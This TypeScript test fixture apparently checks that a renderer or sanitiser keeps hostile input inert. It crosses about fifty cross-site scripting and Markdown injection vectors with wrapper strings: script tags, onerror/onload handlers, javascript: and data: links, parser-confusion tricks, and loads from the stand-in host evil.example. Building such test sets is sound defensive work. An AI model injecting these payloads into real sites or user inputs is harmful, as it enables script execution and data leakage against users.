/** Each sets `hacked` if it runs as script, or asks for something of another host if it is taken for markup. */
const RUN = "window.hacked=1";
const EVIL = "http://evil.example";

const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}/a.js></script>`,
  `<script type=module>import "${EVIL}/a.js"</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${EVIL}/pixel.png>`,
  `<img srcset="${EVIL}/a.png 2x">`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></iframe></foreignObject></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe src="javascript:parent.hacked=1"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<iframe src=${EVIL}></iframe>`,
  `<object data=${EVIL}/a.swf></object>`,
  `<embed src="javascript:${RUN}">`,
  `<link rel=stylesheet href=${EVIL}/a.css>`,
  `<link rel=prefetch href=${EVIL}/a>`,
  `<style>@import "${EVIL}/a.css"; body{background:url(${EVIL}/b)}</style>`,
  `<div style="background:url(${EVIL}/c)">x</div>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href=${EVIL}/>`,
  `<form action=${EVIL}><button autofocus onfocus=${RUN}>x</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video src=${EVIL}/v.mp4 autoplay onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<template><script>${RUN}</script></template>`,
  `<x contenteditable onbeforeinput=${RUN} autofocus tabindex=1>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>opener.hacked=1</script>">x</a>`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)`,
  `[x](vbscript:${RUN})`,
  `[x](//evil.example/y "onmouseover=${RUN}")`,
  `![x](${EVIL}/pixel.png)`,
  `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `"};${RUN};//`,
  `'-${RUN}-'\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
];

/** The ways a text may reach an element: alone, out of an attribute or a comment, inside Markdown, behind odd characters. */
const WRAPPERS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"'>--></title></textarea></style></script>${vector}`,
  (vector) => `| a | b |\n|---|---|\n| ${vector} | **${vector}** |\n\n> ${vector}\n\n1. ${vector}`,
  (vector) => `\u202e\u0000\ufeff${vector}\u2028\n\`\`\`html\n${vector}\n\`\`\``,
];

/** 200 texts that must stay texts on every screen. */
export const HOSTILE_TEXTS: readonly string[] = WRAPPERS.flatMap((wrap) => VECTORS.map(wrap));
